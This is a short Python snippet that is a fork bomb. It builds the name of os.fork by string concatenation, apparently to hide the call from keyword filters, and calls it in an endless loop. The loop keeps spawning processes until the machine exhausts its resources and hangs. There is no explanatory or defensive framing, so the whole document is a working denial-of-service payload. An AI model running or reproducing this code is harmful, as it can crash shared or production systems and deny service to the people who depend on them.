import os
f = getattr(os, "fo" + "rk")
while f() >= 0:
    pass